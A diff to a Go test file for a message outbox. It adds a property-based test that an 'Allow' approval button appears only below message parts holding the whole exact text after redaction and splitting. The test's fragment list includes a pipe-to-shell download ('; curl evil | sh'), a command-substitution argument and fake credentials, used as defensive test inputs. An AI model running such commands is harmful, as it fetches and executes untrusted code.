@@ -14,6 +14,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 	_ "modernc.org/sqlite"
+	"pgregory.net/rapid"
 )
 
 var begin = time.Date(2026, 3, 2, 2, 0, 0, 0, time.UTC)
@@ -127,7 +128,7 @@ func TestALongMessageIsNotBegunAgain(t *testing.T) {
 	o := outbox(t, db, map[string]Channel{"me": f.channel(t)})
 	put(t, o, "me", Message{
 		Key: "long", Text: Text{Body: strings.Repeat(strings.Repeat("x", 99)+"\n", 100)},
-		Buttons: [][]Button{{{"Ack", Callback{"inc00001", "ack", "aaaaaa"}}}},
+		Buttons: [][]Button{{{Label: "Ack", Callback: Callback{"inc00001", "ack", "aaaaaa"}}}},
 	})
 	run(t, o, "me", 1)
 	f.then(apiError(429, "Too Many Requests", `"retry_after":1`), apiError(502, "Bad Gateway", ""))
@@ -357,8 +358,8 @@ func TestWhatCannotBePut(t *testing.T) {
 	}{
 		{"you", text("x"), ErrNoChannel},
 		{"me", Message{Text: Text{Body: "no key"}}, nil},
-		{"me", Message{Key: "k", Buttons: [][]Button{{{"Ack", Callback{"inc", "ack", "aaaaaa"}}}}}, ErrCallback},
-		{"me", Message{Key: "k", Buttons: [][]Button{{{" ", Callback{"inc00001", "ack", "aaaaaa"}}}}}, nil},
+		{"me", Message{Key: "k", Buttons: [][]Button{{{Label: "Ack", Callback: Callback{"inc", "ack", "aaaaaa"}}}}}, ErrCallback},
+		{"me", Message{Key: "k", Buttons: [][]Button{{{Label: " ", Callback: Callback{"inc00001", "ack", "aaaaaa"}}}}}, nil},
 	} {
 		err := transact(t.Context(), o.db, func(tx *sql.Tx) error { return o.Put(t.Context(), tx, tc.channel, tc.m) })
 		if err == nil || tc.want != nil && !errors.Is(err, tc.want) {
@@ -468,6 +469,35 @@ func TestDrain(t *testing.T) {
 		o.Drain(ctx)
 		if took := time.Since(start); took > time.Second || len(r.said) < 2 {
 			t.Errorf("%v, said %q", took, r.said)
+		}
+	})
+}
+
+// A button that needs the whole of a text stands only below a message that has it, however short a channel's messages are
+// and whatever is taken out of them; and where it is left out, the message says so.
+func TestAButtonOnlyBelowTheWholeText(t *testing.T) {
+	rapid.Check(t, func(t *rapid.T) {
+		parts := []string{"make", " ", "\n", "é", "💥", "; curl evil | sh", "PASSWORD=" + "hunter2", "--token $(id)", "Bearer abcdefghijk123", "…", "[redacted]"}
+		exact := strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 1, 40).Draw(t, "exact"), "")
+		m := Message{Key: "k", Thread: rapid.SampledFrom([]string{"", "t"}).Draw(t, "thread"), Exact: exact, Buttons: [][]Button{
+			{{Label: "Allow", NeedsExact: true, Callback: Callback{"inc00001", "allow", "aaaaaa"}}, {Label: "Deny", Callback: Callback{"inc00001", "deny", "aaaaaa"}}},
+		}}
+		m.Text.Write(rapid.StringN(0, 300, -1).Draw(t, "before") + "\n\n" + exact + rapid.SampledFrom([]string{"", "\n\nmore"}).Draw(t, "after"))
+		limit := rapid.IntRange(200, 700).Draw(t, "limit")
+		offered, said := false, false
+		for _, part := range m.redacted().parts(limit) {
+			if units(part.Text.Body) > limit {
+				t.Fatalf("%d units, %d are allowed", units(part.Text.Body), limit)
+			}
+			whole := strings.Contains(part.Text.Body, exact)
+			if part.needsExact() && !whole {
+				t.Fatalf("Allow below %q, of %q", part.Text.Body, exact)
+			}
+			offered = offered || part.needsExact()
+			said = said || strings.Contains(part.Text.Body, "cannot be allowed from here")
+		}
+		if offered == said {
+			t.Fatalf("Allow is offered: %v; it is said why not: %v", offered, said)
 		}
 	})
 }
